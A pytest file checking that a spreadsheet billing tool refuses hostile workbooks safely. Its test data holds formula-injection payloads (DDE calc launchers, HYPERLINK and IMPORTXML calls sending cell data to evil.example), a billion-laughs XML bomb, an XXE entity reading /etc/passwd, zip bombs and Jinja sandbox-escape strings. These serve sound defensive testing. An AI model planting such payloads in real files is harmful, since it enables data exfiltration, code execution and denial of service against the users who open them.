"""Hostile and broken input: formula injection, XML and zip bombs, sheets beyond Excel's limits,
templates reaching for Python internals, merged cells and hidden rows, error cells.

Every workbook here is a real one built by `workbook.build` and then edited part by part with
zipfile, as a tampered or damaged file would be. A refusal is a clear Problem, quickly and in
bounded memory, and never a crash; the file is never changed by a refused run.
"""

from __future__ import annotations

import hashlib
import pathlib
import os
import re
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile

import pandas as pd
import pytest
import python_calamine

from macros import runner
from tests import office
from tests.conftest import SETTINGS, small_desk
from workbook import build, filehost, layout, package, sheetxml

ROOT = pathlib.Path(__file__).parent.parent
QUICK = 2.0  # seconds: a refusal must come well before this
SMALL_MEMORY = 64 * 2 ** 20  # bytes Python may allocate while refusing a bomb


# --- editing a built workbook as a tampered file would be ------------------------------------

def index_of(path) -> package.Index:
    with zipfile.ZipFile(path) as archive:
        return package.read_index(archive)


def sheet_part(path, table: str) -> str:
    return index_of(path).tables[table.lower()].sheet_part


def read_part(path, part: str) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read(part)


def rewrite(path, changes: dict, level: int = 6) -> None:
    """Replace parts of the zip at `path`: part -> bytes, or a function of the old bytes."""
    path = pathlib.Path(path)
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as new:
        for info in old.infolist():
            data = old.read(info.filename)
            change = changes.get(info.filename)
            if change is not None:
                data = change(data) if callable(change) else change
            new.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED)
    tmp.replace(path)


def declare_size(path, part: str, size: int) -> None:
    """Make the zip lie: `part` declares `size` bytes (local header and central directory)."""
    with zipfile.ZipFile(path) as archive:
        offset = archive.getinfo(part).header_offset
    raw = bytearray(pathlib.Path(path).read_bytes())
    assert raw[offset:offset + 4] == b"PK\x03\x04"
    struct.pack_into("<I", raw, offset + 22, size)
    name, at = part.encode(), 0
    while (at := raw.find(b"PK\x01\x02", at)) >= 0:
        length = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46: at + 46 + length] == name:
            struct.pack_into("<I", raw, at + 24, size)
        at += 4
    pathlib.Path(path).write_bytes(bytes(raw))


def set_cell(sheet_xml: bytes, ref: str, cell_xml: str) -> bytes:
    """Replace the cell `ref` (which must exist) by `cell_xml`."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
    assert pattern.search(sheet_xml), ref
    return pattern.sub(cell_xml.encode().replace(b"\\", b"\\\\"), sheet_xml, count=1)


def digest(path) -> str:
    return hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()


def refused(path, job: str = "validate", lang: str | None = None):
    """Run a job on a hostile workbook: the one Problem, the seconds it took, and the peak of
    what Python allocated in a second run (traced: tracing slows every allocation)."""
    before = digest(path)
    started = time.perf_counter()
    report = runner.run_file(job, str(path), lang=lang)
    seconds = time.perf_counter() - started
    tracemalloc.start()
    try:
        again = runner.run_file(job, str(path), lang=lang)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.status == "failed", report
    assert len(report.problems) == 1, report.problems
    assert again.problems == report.problems
    assert digest(path) == before, "a refused run changed the file"
    return report.problems[0], seconds, peak


LOL = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
       + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%s;" % (b"" if i == 1 else b"%d" % (i - 1))) * 10)
                  for i in range(1, 10))
       + b"]>\n")


def with_dtd(xml: bytes, entity_in: bytes = b"") -> bytes:
    """The part with the billion-laughs DTD before its root (and &lol9; in place of `entity_in`)."""
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    if entity_in:
        body = body.replace(entity_in, b"&lol9;", 1)
    return LOL + body.lstrip()


@pytest.fixture
def book(tmp_path) -> pathlib.Path:
    return pathlib.Path(build.build(str(tmp_path / "FeeDesk.xlsm"), "zh", small_desk(), SETTINGS))


# --- 1. formula injection ----------------------------------------------------------------------

HOSTILE_TEXT = {
    "C000101": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看账单")',
    "C000102": "+1+1",
    "C000103": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C000104": "-2+3",
    "C000105": "\t=1+2",  # export padding is stripped: read as the text '=1+2'
}
HOSTILE_REGION = "=cmd|' /C calc'!A0"
HOSTILE_CHOICE = "\r=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")"


def shown(text: str) -> str:
    """A value as a Problem shows it (stripped, at most 60 characters)."""
    text = text.strip()
    return text if len(text) <= 60 else text[:57] + "..."


def formula_cells(sheet_xml: bytes) -> list[bytes]:
    return re.findall(rb"<c\b[^>]*>(?:(?!</c>).)*<f[ >/](?:(?!</c>).)*</c>", sheet_xml, re.S)


def test_text_that_looks_like_a_formula_stays_text_through_every_job(tmp_path):
    desk = small_desk()
    customers = desk["Customers"]
    customers["Name"] = customers["CustomerID"].map(HOSTILE_TEXT)
    customers.loc[0, "Region"] = HOSTILE_REGION
    desk["Usage"].loc[4, "TariffCode"] = HOSTILE_CHOICE  # no such tariff: a Problem showing the value
    desk["Templates"] = pd.DataFrame({"TemplateKey": ["statement"], "Language": ["zh"], "Kind": ["letter"],
                                      "File": ["templates/statement_zh.docx"]})
    path = pathlib.Path(build.build(str(tmp_path / "FeeDesk.xlsm"), "zh", desk,
                                    dict(SETTINGS, LettersFolder=str(tmp_path / "letters"))))
    # The input as written: inline strings, never a formula.
    customers_xml = read_part(path, sheet_part(path, "Customers"))
    assert formula_cells(customers_xml) == []
    with filehost.FileBook(str(path), writable=False) as handle:
        read = handle.read("Customers")
    expected = {cid: text.strip() for cid, text in HOSTILE_TEXT.items()}
    assert dict(zip(read["CustomerID"], read["Name"])) == expected
    assert read.loc[2, "Region"] == HOSTILE_REGION

    assert runner.run_file("aging", str(path)).status == "ok"
    letters = runner.run_file("letters", str(path), params={"kind": "statement"})
    assert letters.status == "ok", letters.problems
    validate = runner.run_file("validate", str(path))  # last: the Problems table is its own
    assert [p.value for p in validate.problems if p.code == "unknown_reference"] == [shown(HOSTILE_CHOICE)]

    with filehost.FileBook(str(path), writable=False) as handle:
        aging = handle.read("Aging")
        balances = handle.read("AgingCustomers")
        problems_table = handle.read("Problems")
        log = handle.read("Letters")
    owing = set(aging["CustomerID"])
    assert {"C000101", "C000103", "C000105"} <= owing
    for frame in (aging, balances, log):
        assert {cid: name for cid, name in zip(frame["CustomerID"], frame["Name"])} == \
            {cid: expected[cid] for cid in owing}
    assert set(aging.loc[aging["CustomerID"] == "C000101", "Region"]) == {HOSTILE_REGION}
    assert shown(HOSTILE_CHOICE) in set(problems_table["Value"])

    # The written sheets hold each of them as an inline string, and no formula at all.
    names = {expected[cid] for cid in owing}
    for table, texts in (("Aging", [*names, HOSTILE_REGION]), ("AgingCustomers", [*names, HOSTILE_REGION]),
                         ("Letters", names), ("Problems", [shown(HOSTILE_CHOICE)])):
        xml = read_part(path, sheet_part(path, table))
        assert formula_cells(xml) == [], table
        for text in texts:
            escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()
            cells = re.findall(rb"<c\b[^>]*><is><t[^>]*>" + re.escape(escaped) + rb"</t></is></c>", xml)
            assert cells and all(b't="inlineStr"' in cell for cell in cells), (table, text)

    # python-calamine (straight, not through FeeDesk) reads the literal strings.
    workbook = python_calamine.CalamineWorkbook.from_path(str(path))
    aging_rows = workbook.get_sheet_by_name(layout.table("Aging").sheet_name("zh")).to_python()
    assert {row[1] for row in aging_rows[1:]} == names

    # LibreOffice opens the file and saves what it understood: the same strings, no formula.
    if office.SOFFICE is None:
        pytest.skip("LibreOffice is not installed")
    resaved = office.convert(path, "xlsx", tmp_path / "lo")
    workbook = python_calamine.CalamineWorkbook.from_path(str(resaved))
    for table in ("Aging", "Letters"):
        rows = workbook.get_sheet_by_name(layout.table(table).sheet_name("zh")).to_python()
        at = rows[0].index(layout.table(table).column("Name").header("zh"))
        assert {row[at] for row in rows[1:]} == names, table
    rows = workbook.get_sheet_by_name(layout.table("Problems").sheet_name("zh")).to_python()
    assert shown(HOSTILE_CHOICE) in {row[4] for row in rows[1:]}
    with zipfile.ZipFile(resaved) as archive:
        index = package.read_index(archive)
        for table in ("Aging", "AgingCustomers", "Problems", "Letters"):
            assert formula_cells(archive.read(index.tables[table.lower()].sheet_part)) == [], table


# --- 2. XML bombs and zip bombs ------------------------------------------------------------------

def test_billion_laughs_in_workbook_xml_is_refused_quickly(book):
    rewrite(book, {"xl/workbook.xml": with_dtd})
    problem, seconds, peak = refused(book)
    assert problem.code == "xml_bomb" and "xl/workbook.xml" in problem.message and "DTD" in problem.message
    assert seconds < QUICK and peak < SMALL_MEMORY


def test_billion_laughs_in_a_table_part_is_refused(book):
    part = index_of(book).tables["customers"].part
    rewrite(book, {part: lambda xml: with_dtd(xml, b'name="Customers"')})
    problem, seconds, peak = refused(book, lang="en")
    assert problem.code == "xml_bomb" and part in problem.message and "XML bomb" in problem.message
    assert seconds < QUICK and peak < SMALL_MEMORY


def test_billion_laughs_in_a_sheet_is_refused_before_calamine_sees_it(book):
    part = sheet_part(book, "Customers")
    rewrite(book, {part: lambda xml: with_dtd(xml, "张伟".encode())})
    # python-calamine on its own does not expand entities either: it stops at the reference.
    sheet = layout.table("Customers").sheet_name("zh")
    with pytest.raises(python_calamine.CalamineError, match="entity"):
        python_calamine.CalamineWorkbook.from_path(str(book)).get_sheet_by_name(sheet)
    problem, seconds, peak = refused(book)
    assert problem.code == "xml_bomb" and part in problem.message
    assert seconds < QUICK and peak < SMALL_MEMORY


def test_a_dtd_hidden_after_a_long_prolog_is_refused(book):
    padding = b"<!--" + b" " * (package.PROLOG_BYTES + 10) + b"-->"
    rewrite(book, {"xl/styles.xml": lambda xml: with_dtd(padding + xml.split(b"?>", 1)[1])})
    problem, _, _ = refused(book)
    assert problem.code == "xml_bomb" and "xl/styles.xml" in problem.message


def test_feedesk_parses_its_own_xml_with_defusedxml(tmp_path):
    """_parse refuses entities and DTDs by itself, whatever checks ran before it."""
    target = tmp_path / "parts.zip"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("bomb.xml", LOL + b"<root>&lol9;</root>")
        archive.writestr("external.xml", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')
        archive.writestr("plain_dtd.xml", b"<!DOCTYPE r><r/>")
        archive.writestr("ok.xml", b"<r a='1'/>")
    with zipfile.ZipFile(target) as archive:
        for part in ("bomb.xml", "external.xml", "plain_dtd.xml"):
            with pytest.raises(package.PackageError) as caught:
                package._parse(archive, part)
            assert caught.value.code == "xml_bomb", part
        assert package._parse(archive, "ok.xml").get("a") == "1"


def test_a_zip_bomb_posing_as_a_workbook_is_refused_without_inflating(book):
    part = sheet_part(book, "Payments")
    rewrite(book, {part: lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 40_000_000)})
    info = zipfile.ZipFile(book).getinfo(part)
    assert info.file_size > 500 * info.compress_size  # 40 MB from 40 KB
    problem, seconds, peak = refused(book)
    assert problem.code == "zip_bomb" and part in problem.message and "40,0" in problem.message
    assert seconds < QUICK and peak < SMALL_MEMORY


def test_a_part_declaring_a_huge_size_is_refused(book):
    declare_size(book, "xl/workbook.xml", 3_000_000_000)
    problem, seconds, _ = refused(book)
    assert problem.code == "zip_bomb" and "3,000,000,000" in problem.message
    assert seconds < QUICK


@pytest.mark.parametrize("where", ["sheet", "sharedStrings", "workbook"])
def test_a_zip_that_lies_about_a_part_size_is_refused_in_bounded_memory(book, where):
    part = {"sheet": sheet_part(book, "Payments"), "sharedStrings": "xl/sharedStrings.xml",
            "workbook": "xl/workbook.xml"}[where]
    honest = read_part(book, part)
    padding = b" " * 64_000_000
    inside = {"sheet": b"<sheetData>", "sharedStrings": b"<si>", "workbook": b"<sheets>"}[where]
    rewrite(book, {part: lambda xml: xml.replace(inside, inside + padding, 1)})
    declare_size(book, part, len(honest))  # says a few KB; inflates to 64 MB
    problem, seconds, peak = refused(book)
    assert problem.code == "damaged_part" and part in problem.message, problem
    assert seconds < QUICK and peak < SMALL_MEMORY


def test_damaged_table_part_is_a_clear_problem(book):
    part = index_of(book).tables["customers"].part
    rewrite(book, {part: lambda xml: re.sub(rb'\sref="[^"]*"', b"", xml, count=1)})
    problem, _, _ = refused(book)
    assert problem.code == "damaged_part" and part in problem.message


# --- 3. more rows than Excel has ------------------------------------------------------------------

def test_a_row_beyond_excels_last_is_refused_naming_the_sheet(book):
    part = sheet_part(book, "Payments")
    far = b'<row r="2000000"><c r="A2000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    rewrite(book, {part: lambda xml: xml.replace(b"</sheetData>", far)})
    problem, seconds, _ = refused(book)
    sheet = layout.table("Payments").sheet_name("zh")
    assert problem.code == "sheet_beyond_excel" and problem.sheet == sheet
    assert f"“{sheet}”" in problem.message and "1,048,576" in problem.message and "A2000000" in problem.message
    assert seconds < QUICK
    english, _, _ = refused(book, lang="en")
    assert f"'{sheet}'" in english.message and "1,048,576 rows" in english.message


def test_a_sheet_with_two_million_rows_is_refused_quickly(book):
    part = sheet_part(book, "Payments")
    rows = "".join([f'<row r="{r}"><c r="L{r}"><v>1</v></c></row>' for r in range(10, 2_000_010)]).encode()
    rewrite(book, {part: lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>")}, level=1)
    problem, seconds, peak = refused(book)
    assert problem.code == "sheet_beyond_excel" and problem.sheet == layout.table("Payments").sheet_name("zh")
    assert "1048577" in problem.message and "1,048,576" in problem.message
    assert seconds < QUICK and peak < SMALL_MEMORY  # stops at row 1,048,577, a chunk at a time


def test_a_table_claiming_more_rows_than_excel_is_refused(book):
    part = index_of(book).tables["payments"].part
    rewrite(book, {part: lambda xml: xml.replace(b'ref="A1:K4"', b'ref="A1:K2000000"')})
    problem, seconds, _ = refused(book)
    assert problem.code == "sheet_beyond_excel" and "K2000000" in problem.message and "1,048,576" in problem.message
    assert problem.sheet == layout.table("Payments").sheet_name("zh") and seconds < QUICK


_CHILD = """
import resource, sys, time
resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
from macros import runner
started = time.perf_counter()
report = runner.run_file("validate", sys.argv[1])
print(report.status, report.problems[0].code if report.problems else "",
      round(time.perf_counter() - started, 3), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.parametrize("cell", ["XFD1048576", "ZZ900000"])
def test_one_stray_cell_far_away_is_refused_not_a_crash(book, cell):
    """python-calamine holds a sheet as a dense grid from A1 to its last cell: one value at
    XFD1048576 would ask for 500 GB and abort the process. FeeDesk refuses the sheet first (run
    in a child process with 4 GB of address space, so a regression cannot take pytest down)."""
    part = sheet_part(book, "Customers")
    row = re.sub(r"\D", "", cell)
    stray = f'<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>备注</t></is></c></row></sheetData>'.encode()
    rewrite(book, {part: lambda xml: xml.replace(b"</sheetData>", stray)})
    done = subprocess.run([sys.executable, "-c", _CHILD, str(book)], capture_output=True, text=True, timeout=60,
                          cwd=ROOT, env={**os.environ, "OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1"})
    assert done.returncode == 0, done.stderr[-2000:]
    status, code, seconds, megabytes = done.stdout.split()
    assert (status, code) == ("failed", "sheet_too_large")
    assert float(seconds) < QUICK and int(megabytes) < 1024  # the child's imports take ~500 MB
    problem, _, _ = refused(book)
    assert cell[:-len(row)] in problem.message and problem.sheet == layout.table("Customers").sheet_name("zh")


def test_a_cell_formatted_far_away_without_a_value_is_fine(book):
    """Formatting alone (a styled empty cell) is not data: calamine skips it, so does the check."""
    part = sheet_part(book, "Customers")
    styled = b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
    rewrite(book, {part: lambda xml: xml.replace(b"</sheetData>", styled)})
    with filehost.FileBook(str(book), writable=False) as handle:
        assert len(handle.read("Customers")) == 5


# --- 4. templates reaching for Python internals -------------------------------------------------

@pytest.mark.parametrize("tag", ["{{ ''.__class__.__mro__[1].__subclasses__() }}",
                                 "{{ cycler.__init__.__globals__ }}"])
def test_a_template_reaching_for_python_internals_is_stopped(tmp_path, tag):
    evil = tmp_path / "evil.docx"
    with zipfile.ZipFile(ROOT / "templates" / "statement_zh.docx") as source, zipfile.ZipFile(evil, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/document.xml":
                data = data.replace(b"</w:body>", b"<w:p><w:r><w:t>" + tag.encode() + b"</w:t></w:r></w:p></w:body>")
            target.writestr(info, data)
    desk = small_desk()
    desk["Templates"] = pd.DataFrame({"TemplateKey": ["statement"], "Language": ["zh"], "Kind": ["letter"],
                                      "File": [str(evil)]})
    out = tmp_path / "letters"
    path = build.build(str(tmp_path / "FeeDesk.xlsm"), "zh", desk, dict(SETTINGS, LettersFolder=str(out)))
    assert runner.run_file("aging", path).status == "ok"
    report = runner.run_file("letters", path, params={"kind": "statement"})
    assert report.status == "problems"
    (problem,) = [p for p in report.problems if p.blocking]
    assert "evil.docx" in problem.message and "一封也没有生成" in problem.message
    assert not out.exists() or not list(out.rglob("*.*")), "a letter was written"
    with filehost.FileBook(path, writable=False) as handle:
        assert len(handle.read("Letters")) == 0


def test_a_blocked_template_is_not_called_a_missing_field(tmp_path):
    test_a_template_reaching_for_python_internals_is_stopped(tmp_path, "{{ cycler.__init__.__globals__ }}")
    report = runner.run_file("letters", str(tmp_path / "FeeDesk.xlsm"), params={"kind": "statement"})
    (problem,) = [p for p in report.problems if p.blocking]
    assert problem.code != "letter_field_missing" and "程序内部" in problem.message


# --- 5. merged cells and hidden rows ------------------------------------------------------------

def test_merged_cells_read_top_left_only_and_hidden_rows_like_any_other(book):
    """What FeeDesk does: a merged range's value is in its top-left cell (Excel keeps no other);
    the other cells read blank, so a required column is a Problem naming the row, and each merge
    over a table is a warning saying to unmerge. Hidden rows are rows like any other."""
    customers, payments = sheet_part(book, "Customers"), sheet_part(book, "Payments")

    def merge(xml: bytes) -> bytes:
        xml = re.sub(rb'<c r="D3"[^>]*?>.*?</c>', b"", xml, count=1, flags=re.S)  # Excel empties merged-over cells
        xml = re.sub(rb'<c r="B5"[^>]*?>.*?</c>', b"", xml, count=1, flags=re.S)
        return xml.replace(b"</sheetData>", b'</sheetData><mergeCells count="2"><mergeCell ref="D2:D3"/>'
                                             b'<mergeCell ref="B4:B5"/></mergeCells>')

    def hide(xml: bytes) -> bytes:
        return xml.replace(b'<row r="3">', b'<row r="3" hidden="1">').replace(b'<row r="4">', b'<row r="4" hidden="1">')

    rewrite(book, {payments: hide})
    assert runner.run_file("reconcile", str(book)).status == "ok"
    with filehost.FileBook(str(book), writable=False) as handle:
        assert list(handle.read("Payments")["PaymentID"]) == ["P20260403001", "P20260405002", "P20260406003"]
        matched = set(handle.read("Reconciliation")["PaymentID"].dropna())
    assert {"P20260403001", "P20260405002"} <= matched  # rows 3 and 4 are hidden: used like any other

    rewrite(book, {customers: merge})
    with filehost.FileBook(str(book), writable=False) as handle:
        read = handle.read("Customers")
        found = list(handle.read_problems)
    assert read.loc[2, "Region"] == "东区" and pd.isna(read.loc[3, "Region"])
    assert read.loc[4, "Name"] == "李娜" and pd.isna(read.loc[5, "Name"])
    sheet = layout.table("Customers").sheet_name("zh")
    blank = [p for p in found if p.code == "blank_required"]
    assert [(p.sheet, p.row, p.column) for p in blank] == [(sheet, 5, "客户名称")]
    merged = sorted((p.row, p.column, p.value) for p in found if p.code == "merged_cells")
    assert merged == [(2, "片区", "D2:D3"), (4, "客户名称", "B4:B5")]
    assert all(p.severity == "warning" and p.sheet == sheet and "取消合并" in p.message
               for p in found if p.code == "merged_cells")
    report = runner.run_file("validate", str(book))
    assert report.status == "problems"
    assert [(p.sheet, p.row, p.column) for p in report.problems if p.code == "blank_required"] == \
        [(sheet, 5, "客户名称")]


# --- 6. error cells -------------------------------------------------------------------------------

def test_error_cells_are_problems_naming_sheet_row_column_and_error(book):
    customers, bills = sheet_part(book, "Customers"), sheet_part(book, "Bills")
    rewrite(book, {
        customers: lambda xml: set_cell(xml, "D2", '<c r="D2" s="1" t="e"><v>#N/A</v></c>'),
        bills: lambda xml: set_cell(set_cell(set_cell(set_cell(
            xml, "H3", '<c r="H3" t="e"><f>VLOOKUP(A3,Old!A:H,8,FALSE)</f><v>#REF!</v></c>'),
            "C4", '<c r="C4" t="e"><v>#N/A</v></c>'),
            "E5", '<c r="E5" t="e"><f>DATE(2026,13,"x")</f><v>#VALUE!</v></c>'),
            "J6", '<c r="J6" t="e"><v>#DIV/0!</v></c>'),
    })
    # python-calamine reads an error cell as a blank: alone, #N/A would pass for "no region".
    workbook = python_calamine.CalamineWorkbook.from_path(str(book))
    rows = workbook.get_sheet_by_name(layout.table("Customers").sheet_name("zh")).to_python()
    assert rows[1][3] == ""
    with filehost.FileBook(str(book), writable=False) as handle:
        handle.read("Customers")
        read_bills = handle.read("Bills")
        found = [(p.sheet, p.row, p.column, p.value) for p in handle.read_problems if p.code == "error_cell"]
    zh = {key: layout.table(key).sheet_name("zh") for key in ("Customers", "Bills")}
    assert found == [
        (zh["Customers"], 2, "片区", "#N/A"),
        (zh["Bills"], 4, "账期", "#N/A"),
        (zh["Bills"], 5, "账单日期", "#VALUE!"),
        (zh["Bills"], 3, "应收金额", "#REF!"),
        (zh["Bills"], 6, "状态", "#DIV/0!"),
    ]
    assert pd.isna(read_bills.loc[3, "Amount"]) and pd.isna(read_bills.loc[4, "Period"])
    report = runner.run_file("validate", str(book))
    assert report.status == "problems"
    errors = [p for p in report.problems if p.code == "error_cell"]
    assert len(errors) == 5 and all("错误值" in p.message for p in errors)
    english = runner.run_file("validate", str(book), lang="en")
    assert any(p.message.startswith("The cell holds the error #REF!") for p in english.problems)


def test_error_cells_outside_the_table_are_not_its_business(book):
    customers = sheet_part(book, "Customers")
    rewrite(book, {customers: lambda xml: xml.replace(
        b"</sheetData>", b'<row r="20"><c r="P20" t="e"><v>#N/A</v></c></row></sheetData>')})
    with filehost.FileBook(str(book), writable=False) as handle:
        handle.read("Customers")
        assert [p for p in handle.read_problems if p.code == "error_cell"] == []


# --- what checking costs -----------------------------------------------------------------------

def test_the_sheet_check_streams_in_bounded_memory(book):
    """A 40 MB sheet is checked a chunk at a time (its error cell found), never held whole."""
    part = sheet_part(book, "Payments")
    rows = "".join(f'<row r="{r}"><c r="L{r}" t="inlineStr"><is><t>备注 {r:08d} {"x" * 40}</t></is></c></row>'
                   for r in range(10, 400_010)).encode()
    error = b'<row r="400011"><c r="L400011" t="e"><v>#NAME?</v></c></row>'
    rewrite(book, {part: lambda xml: xml.replace(b"</sheetData>", rows + error + b"</sheetData>")})
    index = index_of(book)
    table = index.tables["payments"]
    wide = package.TablePart(table.name, table.sheet, table.sheet_part, table.part, "A1:L400011", table.columns)
    tracemalloc.start()
    try:
        with zipfile.ZipFile(book) as archive:
            checked = sheetxml.check_sheet(archive, wide)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert checked.errors == {(400_010, 11): "#NAME?"}
    assert len(read_part(book, part)) > 30_000_000 and peak < 4 * package.READ_CHUNK + 8 * 2 ** 20


def test_the_sms_and_phone_list_keeps_formula_looking_names_as_text(tmp_path):
    """The CSV for the SMS platform is opened in Excel too: a name that would start a formula
    gets a leading apostrophe there (the workbook itself stores it as plain text)."""
    import csv

    from macros.jobs import letters as letters_job

    items = [{"LetterID": "L1", "CustomerID": "C000101", "Name": '=HYPERLINK("http://evil.example","点我")',
              "Kind": "dunning", "Level": 1, "Template": "sms", "Channel": "sms", "Recipient": "+8613800000000",
              "Amount": 12345},
             {"LetterID": "L3", "CustomerID": "C000103", "Name": "+1+1", "Kind": "dunning", "Level": 1,
              "Template": "sms", "Channel": "sms", "Recipient": "@SUM(1)", "Amount": 1},
             {"LetterID": "L2", "CustomerID": "C000102", "Name": "王芳", "Kind": "dunning", "Level": 1,
              "Template": "sms", "Channel": "phone", "Recipient": "13900000000", "Amount": 500}]
    path = letters_job._write_lists(items, str(tmp_path), "zh")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["Name"] == '\'=HYPERLINK("http://evil.example","点我")'
    assert rows[0]["Recipient"] == "+8613800000000"  # a phone number, not a formula: kept for the SMS platform
    assert rows[1]["Name"] == "'+1+1" and rows[1]["Recipient"] == "'@SUM(1)"  # formulas, not phone numbers
    assert rows[2]["Name"] == "王芳" and rows[2]["Recipient"] == "13900000000"
    assert rows[0]["Amount"] == "¥123.45"
